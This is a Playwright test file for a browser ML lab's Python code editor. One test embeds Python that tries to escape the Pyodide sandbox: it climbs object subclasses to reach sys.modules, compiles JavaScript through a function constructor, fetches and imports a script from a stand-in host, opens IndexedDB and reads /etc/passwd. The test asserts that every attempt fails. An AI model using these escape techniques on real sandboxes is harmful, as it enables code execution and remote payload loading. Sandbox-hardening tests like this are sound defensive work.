import type { Page } from '@playwright/test';
import { expectAccessible } from './accessible.ts';
import { chooseTemplate, failed, openEditor, ready, train, verdict, write } from './code-editor.ts';
import { expect, test } from './lab-page.ts';

async function openTemplate(page: Page, name: string): Promise<void> {
  await openEditor(page);
  await chooseTemplate(page, name);
  await ready(page);
}

// Loading Python occupies a core for seconds, which would delay tests that run in parallel.
test('an agent learns the Python template in the page, and Python is loaded only for it', {
  tag: '@alone',
}, async ({ lab }) => {
  const { page } = lab;
  const loaded: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/pyodide/')) loaded.push(request.url());
  });
  await page.goto('/?device=processor&stopping.iterations=1');
  await lab.reach(1);
  expect(loaded).toEqual([]);
  await openTemplate(page, 'Frozen lake (Python)');
  await expect(verdict(page)).toContainText('the expert 100%');
  await expect(page.getByTestId('code-trial').getByRole('img')).toBeVisible();
  for (const width of [1440, 390]) {
    await page.setViewportSize({ width, height: 900 });
    await lab.photograph(`code-editor-python-${width}`);
  }
  await page.setViewportSize({ width: 1440, height: 900 });
  await expectAccessible(page, 'code editor with Python', '[role="dialog"]');
  await train(page).click();
  await expect(page.getByTestId('code')).toBeHidden();
  await page.waitForFunction(() => {
    const rates = window.palestra?.snapshot().rows.flatMap((row) => row['eval/success_rate'] ?? []);
    // Random moves solve fewer than a tenth of the tasks.
    return (rates ?? []).some((rate) => rate >= 0.5);
  });
  await expect(lab.stage).toContainText('holes');
  await lab.photograph('code-trained-python');
});

/**
 * Code that tries to escape the sandbox in several ways and raises the results on line 7. Some attempts reach
 * modules that may not be imported, and through them a function whose constructor compiles JavaScript.
 */
const escaping = `class One:
    actions = ['go']
    max_episode_steps = 3
    def reset(self, seed):
        return 'go', {}
    def step(self, action):
        raise ValueError(tried())

def javascript(code):
    importer = [c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]
    modules = importer.load_module('sys').modules
    modules['builtins'].__import__('pyodide_js').runPython.constructor(code)()

def imported():
    import js

def opened():
    from pyodide.http import open_url
    open_url('https://elsewhere.invalid/')

def tried():
    ways = [
        imported,
        opened,
        lambda: open('/etc/passwd'),
        lambda: javascript("fetch('https://elsewhere.invalid/')"),
        lambda: javascript("indexedDB.open('left')"),
        lambda: javascript("import('https://elsewhere.invalid/a.js')"),
    ]
    results = []
    for way in ways:
        try:
            way()
            results.append('succeeded')
        except Exception:
            results.append('failed')
    return 'tried: ' + ', '.join(results)
`;

test('Python code cannot escape its sandbox, and the page reports the line that failed', {
  tag: '@alone',
}, async ({ lab }) => {
  const { page } = lab;
  await openTemplate(page, 'Guess the number (Python)');
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await write(page, escaping);
  await failed(page);
  await expect(verdict(page)).toContainText('Line 7');
  await expect(verdict(page)).toContainText('failed, failed, failed, failed, failed, failed');
  await expect(train(page)).toBeDisabled();
  expect(requests.filter((url) => url.includes('elsewhere'))).toEqual([]);
  expect(
    await page.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name)),
  ).not.toContain('left');
});
